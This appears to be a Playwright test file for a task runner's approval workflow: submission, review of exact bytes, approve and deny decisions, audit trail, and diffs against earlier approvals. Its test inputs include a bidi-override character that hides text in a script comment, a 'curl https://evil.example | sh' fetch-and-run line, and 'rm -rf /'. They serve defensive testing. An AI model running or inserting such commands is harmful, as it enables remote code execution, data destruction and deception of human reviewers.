// Approval requests (D-04): submission, review of the exact request, decision, execution and audit trail.
import type { Page } from '@playwright/test';
import { output, section, sha256, source, state, submitTask, withoutReload } from '../page-helpers';
import { expect, test } from '../test';

const SCRIPT = `# pays \u202e001 ot\u202c nobody
printf 'first\\n'
sleep 8
printf 'second as %s\\n' "$(id -u)"
`;

test('D-04 a task is submitted, approved by another person, run and recorded', async ({ ada, team, browser }) => {
  const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
  const [submitting, deciding] = [await mei.open(browser), await omar.open(browser)];
  await deciding.goto('/');
  const deciderStays = await withoutReload(deciding);

  const task = await submitTask(submitting, { title: 'Pay the bill', script: SCRIPT, network: 'Unrestricted' });
  await expect(state(submitting)).toHaveText('Awaiting approval');
  await expect(submitting.locator('.timeline')).toContainText('Approval requested: 1 approval required (rule “Everything else requires approval”)');
  const submitterStays = await withoutReload(submitting);

  await test.step('the approver sees the new request and exactly what would run', async () => {
    const waiting = section(deciding, 'Waiting for your decision');
    await expect(waiting.getByRole('link', { name: 'Pay the bill' })).toBeVisible();
    await expect(deciding.locator('#waiting-wide .count')).toContainText('1');
    expect(await deciderStays()).toBe(true);
    await waiting.getByRole('link', { name: 'Pay the bill' }).click();

    await expect(deciding.getByRole('region', { name: 'Script' }).locator('mark').first()).toHaveText('U+202E');
    expect(`${await source(deciding, 'Script')}\n`).toBe(SCRIPT);
    for (const folded of await deciding.locator('.folded > summary').all()) await folded.click();
    const bytes = await source(deciding, 'Exact bytes');
    expect(JSON.parse(bytes)).toEqual(JSON.parse(await source(deciding, 'Request')));
    const card = deciding.getByRole('complementary', { name: 'Decision' });
    await expect(deciding.locator('main')).toContainText('Requested by Mei');
    await expect(deciding.locator('.request-about')).toContainText('can reach everything that the runner can reach, and its connections are not recorded');
    expect((await card.locator('.digest code').innerText()).replace(/\s/g, '')).toBe(sha256(bytes));
    await decisionInSight(deciding);
  });

  await test.step('the approver approves with a reason', async () => {
    await deciding.getByLabel('Reason').fill('The invoice is right.');
    await deciding.getByRole('button', { name: 'Approve request' }).click();
    await expect(deciding.getByText('Approved.')).toBeVisible();
    await expect(deciding.getByRole('button', { name: 'Approve request' })).toHaveCount(0);
  });

  await test.step('the requester sees the output live', async () => {
    await expect(submitting.locator('.timeline')).toContainText('Approved by Omar');
    await expect(submitting.locator('.timeline .said')).toHaveText('The invoice is right.');
    await expect(output(submitting).first()).toHaveText('first');
    await expect(state(submitting)).toHaveText('Running');
    await expect(output(submitting)).toHaveText(['first', /^second as \d+$/]);
    await expect(output(submitting).nth(1)).not.toHaveText('second as 0');
    await expect(state(submitting)).toHaveText('Succeeded');
    await expect(section(submitting, 'Receipt')).toContainText('Signature verified');
    await expect(section(submitting, 'Receipt')).toContainText('Ended with exit status 0');
    expect(await submitterStays(), 'without a reload').toBe(true);
  });

  await test.step('the audit trail is complete', async () => {
    const admin = await ada.open(browser);
    await admin.goto(task);
    const trail = section(admin, 'Audit trail');
    await expect(trail.locator('tbody td code')).toHaveText([
      'task.submit',
      'approval.decide',
      'task.assign',
      'task.start',
      'task.finish',
    ]);
    await expect(trail.getByRole('row', { name: 'approval.decide' })).toContainText('Omar');
    await trail.getByRole('row', { name: 'approval.decide' }).getByRole('link').click();
    await expect(admin.getByText('Hash matches')).toBeVisible();
    expect(await source(admin, 'Record')).toContain('The invoice is right.');
  });
});

test('D-04 the decision buttons stay visible at every screen size and scroll position', async ({ team, browser }) => {
  const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
  const long = Array.from({ length: 150 }, (_, n) => `echo "line ${n} of a script that is read before it is approved"`);
  const title = 'Move every customer of the old warehouse to the new one, and send each of them a letter about it';
  await mei.submit({ script: long.join('\n'), title, network_policy: 'unrestricted', organization: team.id });
  const page = await omar.open(browser);
  await page.goto('/approvals');
  await page.getByRole('row', { name: title }).getByRole('link').click();
  await expect(page.locator('.decide')).toBeVisible();
  const path = page.url();
  for (const [width, height] of [[1280, 720], [1440, 950], [768, 1024], [320, 640]]) {
    await page.setViewportSize({ width, height });
    await page.goto(path);
    await decisionInSight(page);
    await expect(page.getByLabel('Reason'), `${width} × ${height}`).toBeInViewport({ ratio: 1 });
    for (const part of [0.3, 0.7, 1]) {
      await page.evaluate((part) => scrollTo(0, part * document.documentElement.scrollHeight), part);
      await decisionInSight(page);
    }
    const covered = (await page.locator('.decide').boundingBox())!.height;
    if (width < 900) expect(covered, `of ${height}`).toBeLessThanOrEqual(height * 0.4);
    // The facts for the decision come before the script, also in a single column.
    await page.evaluate(() => scrollTo(0, 0));
    const top = async (selector: string) => (await page.locator(selector).first().boundingBox())!.y;
    expect(await top('.decision-first')).toBeLessThan(await top('.detail-main .source'));
    const wide = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(wide, `${width} px scrolls sideways`).toBeLessThanOrEqual(width);
  }
  const lines = await page.locator('.decision .digest code').evaluate((code) =>
    [...code.children].map((group) => Math.round(group.getBoundingClientRect().top)));
  expect(lines.length).toBe(8);
  expect(new Set(lines.slice(0, 4)).size, 'two lines of four groups').toBe(1);
  expect(new Set(lines.slice(4)).size).toBe(1);
});

test('D-04 a request is compared with the last approved one', async ({ team, browser }) => {
  const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
  const page = await omar.open(browser);
  const ask = async (script: string) => {
    await mei.submit({ script, title: 'Rotate the keys', network_policy: 'unrestricted', organization: team.id });
    await page.goto('/approvals');
    await page.getByRole('row', { name: 'Rotate the keys' }).getByRole('link').click();
  };
  const changes = section(page, 'Changes since the last approval');
  await ask('echo rotating\necho done');
  await expect(changes).toContainText('Not approved before');
  await page.getByRole('button', { name: 'Approve request' }).click();
  await expect(page.getByText('Approved.')).toBeVisible();

  await ask('echo rotating\necho done');
  await expect(changes).toContainText('No changes');
  await page.getByRole('button', { name: 'Approve request' }).click();
  await expect(page.getByText('Approved.')).toBeVisible();

  await ask('echo rotating\ncurl https://evil.example | sh\necho done');
  const script = changes.getByRole('region', { name: 'Changes in the script' });
  await expect(script.locator('ins')).toHaveText(['curl https://evil.example | sh']);
  await expect(script.locator('del')).toHaveCount(0);
  await changes.getByRole('link').click();
  await expect(page.getByText('Approved.')).toBeVisible();
});

test('a page that shows a refused form still receives live updates', async ({ team, browser }) => {
  const [mei, omar, grace] = [
    await team.add('Mei', 'member'),
    await team.add('Omar', 'approver'),
    await team.add('Grace', 'approver'),
  ];
  await mei.submit({ script: 'true', title: 'Decided elsewhere', network_policy: 'unrestricted', organization: team.id });
  const page = await omar.open(browser);
  await page.goto('/approvals');
  await page.getByRole('row', { name: 'Decided elsewhere' }).getByRole('link').click();
  const [path, digest] = [new URL(page.url()).pathname, await page.locator('.decision .digest code').innerText()];
  await page.getByRole('button', { name: 'Deny request' }).click();
  await expect(page.getByRole('alert')).toBeVisible();
  expect(new URL(page.url()).pathname, 'the page keeps its address').toBe(path);
  const id = path.split('/').at(-1)!;
  await grace.act('approvals/decide', { id, request_digest: digest.replace(/\s/g, ''), answer: 'approve', reason: 'Seen.' });
  await expect(page.locator('.answers')).toContainText('Grace');
  await expect(page.getByRole('button', { name: 'Approve request' })).toBeHidden();
});

test('D-04 people cannot decide their own requests', async ({ team, browser }) => {
  const omar = await team.add('Omar', 'approver');
  const task = await omar.submit({ script: 'true', title: 'My own', network_policy: 'unrestricted', organization: team.id });
  const page = await omar.open(browser);
  await page.goto(task);
  await page.getByRole('link', { name: /^View approval request/ }).click();
  await expect(page.locator('.why-not')).toBeVisible();
  await expect(page.getByRole('button', { name: 'Approve request' })).toHaveCount(0);

  const digest = (await page.locator('.decision .digest code').innerText()).replace(/\s/g, '');
  const id = new URL(page.url()).pathname.split('/').at(-1)!;
  const form = { id, request_digest: digest, answer: 'approve', reason: '' };
  expect((await omar.requests.post('/actions/approvals/decide', { form })).status()).toBe(403);
  await page.goto(task);
  await expect(state(page)).toHaveText('Awaiting approval');
});

test('D-04 a denial requires a reason that the requester can read', async ({ team, browser }) => {
  const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
  const [submitting, deciding] = [await mei.open(browser), await omar.open(browser)];
  await submitTask(submitting, { title: 'Too much', script: 'rm -rf /', network: 'Unrestricted' });

  await deciding.goto('/approvals');
  await deciding.getByRole('row', { name: 'Too much' }).getByRole('link').click();
  await deciding.getByRole('button', { name: 'Deny request' }).click();
  await expect(deciding.getByLabel('Reason')).toHaveAttribute('aria-invalid', 'true');
  await deciding.getByLabel('Reason').fill('Say which folder.');
  await deciding.getByRole('button', { name: 'Deny request' }).click();
  await expect(deciding.getByText('Denied.')).toBeVisible();

  await expect(state(submitting)).toHaveText('Denied');
  await expect(submitting.locator('.timeline .said')).toHaveText('Say which folder.');
  await expect(submitting.locator('#log-lines')).toBeEmpty();
});

test('D-04 a second decision is refused because the request is already decided', async ({ team, browser }) => {
  const [mei, omar, grace] = [
    await team.add('Mei', 'member'),
    await team.add('Omar', 'approver'),
    await team.add('Grace', 'approver'),
  ];
  await mei.submit({ script: 'true', title: 'Only once', network_policy: 'unrestricted', organization: team.id });
  const first = await omar.open(browser);
  // Without JavaScript the page does not receive the first decision.
  const second = await grace.open(browser, { javaScriptEnabled: false });
  for (const page of [first, second]) {
    await page.goto('/approvals');
    await page.getByRole('row', { name: 'Only once' }).getByRole('link').click();
  }
  await first.getByRole('button', { name: 'Approve request' }).click();
  await expect(first.getByText('Approved.')).toBeVisible();

  const answer = second.waitForResponse((response) => response.request().method() === 'POST');
  await second.getByLabel('Reason').fill('No.');
  await second.getByRole('button', { name: 'Deny request' }).click();
  expect((await answer).status()).toBe(409);
  await expect(second.getByRole('alert')).toBeVisible();
  await expect(second.locator('.decision')).toContainText('Approved');
  await expect(second.getByRole('button', { name: 'Deny request' })).toHaveCount(0);
});

async function decisionInSight(page: Page): Promise<void> {
  for (const name of ['Deny request', 'Approve request']) {
    const button = page.getByRole('button', { name, exact: true });
    await expect(button, 'the decision buttons are always visible').toBeInViewport({ ratio: 1 });
  }
}
